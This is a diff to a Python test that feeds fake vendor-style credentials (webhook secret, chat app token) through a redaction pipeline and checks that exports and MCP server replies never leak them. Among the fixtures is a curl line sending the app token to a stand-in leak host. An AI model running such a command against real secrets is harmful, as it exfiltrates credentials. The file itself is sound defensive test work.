@@ -65,7 +65,13 @@ SERVICE_TOKEN = _secret("generic-env-token", "q8Zr2LmX7v" + "Kp4TnW9sYb3HdF6jQ1"
 YAML_KEY = _secret("generic-yaml-key", "Zt7Qm2Xv9L" + "p4Rk8Wn3Bc6Hd1Fy")
 CLIENT_SECRET = _secret("generic-json-secret", "Vb8nM2qL5x" + "Z9tR3wK7pJ4hF6Gs")
 
+# prose-embedded tokens with a vendor prefix (round four): a webhook signing secret, an app-level chat token
+WHSEC = _secret("stripe-webhook-secret", "whsec" + "_" + "Lq8Vt3Nc7Rk2Wy5Hb9Jm4Xs6Df1Pz0Ga")
+XAPP = _secret("slack-app-token", "xapp" + "-1-" + "A07K2RT9QZB-" + "7391046285173-" + "c4e8a1f0b92d67e3a5c1f8d04b7e2a96")
+
 PROSE_LINES = [
+    f"Webhook payloads are signed with {WHSEC} from the dashboard's endpoint page.",
+    f"The socket-mode bot connects with the app-level token {XAPP} at start.",
     f"Push with the token {GITHUB} from the release workflow.",
     f"Created the deploy user with key id {AWS_ID} and secret {AWS_PROSE} for the backup bucket.",
     f"Before deploying set AWS_SECRET_ACCESS_KEY={AWS_ENV} in the shell of the deploy user.",
@@ -82,7 +88,9 @@ PROSE_LINES = [
 CODE = (f"export AWS_SECRET_ACCESS_KEY={AWS_ENV}\n"
         f"curl -H 'Authorization: Basic {BASIC}' https://registry.example.org/v2/\n"
         f"export STRIPE_KEY={STRIPE}\n"
-        f"export SERVICE_TOKEN={SERVICE_TOKEN}\n")
+        f"export SERVICE_TOKEN={SERVICE_TOKEN}\n"
+        f"export STRIPE_WEBHOOK_SECRET={WHSEC}\n"
+        f"curl https://hooks.leak.example/relay?app_token={XAPP}\n")
 FILLER = ("The alpha toolkit now ships a streaming transport that replaces long polling for every client; "
           "sessions resume after a disconnect and the server advertises its capabilities at start. ")
 
@@ -139,8 +147,46 @@ def echo(body: dict) -> str:
             f"## Instructions\n1. Deploy as the sources say [1].\n\n## Examples\n~~~~text\n{user}\n~~~~\n\n## Sources\n{sources}\n")
 
 
+def agent_texts(out: Path) -> dict[str, str]:
+    """What an agent loads from the run: every export format, and the MCP server's answers (real SDK client)."""
+    import sys
+
+    import anyio
+    from mcp import Client
+    from mcp.client.stdio import StdioServerParameters
+
+    from synth.agents.export import FORMATS, export_run, target_file
+
+    texts: dict[str, str] = {}
+    to = out.parent / f"{out.name}-exports"
+    to.mkdir(exist_ok=True)
+    for fmt in FORMATS:
+        export_run(out, fmt, to=to)
+        path = next(p for p in to.rglob("*") if p.is_file() and p == target_file(fmt, to, p.stem.removeprefix("skill3-")))
+        texts[f"export {fmt}"] = path.read_text(encoding="utf-8")
+
+    async def main() -> None:
+        server = StdioServerParameters(command=sys.executable, args=["-m", "skill3", "mcp", "--root", str(out.parent)],
+                                       env={"SKILL3_HOME": str(out.parent / ".home")}, cwd=str(ROOT))
+        async with Client(server) as c:
+            listed = await c.call_tool("list_skills", {})
+            texts["mcp list_skills"] = listed.content[0].text
+            for skill in json.loads(listed.content[0].text)["skills"]:
+                for file in skill["files"]:
+                    got = await c.call_tool("get_skill", {"topic": skill["name"], "file": file})
+                    texts[f"mcp get_skill {file}"] = got.content[0].text
+                    res = await c.read_resource(f"skill3://skills/{skill['name']}/{file}")
+                    texts[f"mcp resource {file}"] = res.contents[0].text
+                for q in ("token secret key", "webhook signed dashboard", "deploy export shell"):
+                    found = await c.call_tool("search_delta", {"topic": skill["name"], "query": q})
+                    texts[f"mcp search {q}"] = found.content[0].text
+
+    anyio.run(main)
+    return texts
+
+
 def assert_nothing_leaks(out: Path, log: str, stub: StubLLM, expected_kinds: int) -> dict:
-    texts = {**output_texts(out), "log": log, **request_texts(stub)}
+    texts = {**output_texts(out), "log": log, **request_texts(stub), **agent_texts(out)}
     assert leaks(texts) == []
     items = read_jsonl(out / "run.jsonl") if (out / "run.jsonl").is_file() else []
     return {"items": items, "redactions": sum(i.get("redactions", 0) for i in items), "texts": texts}
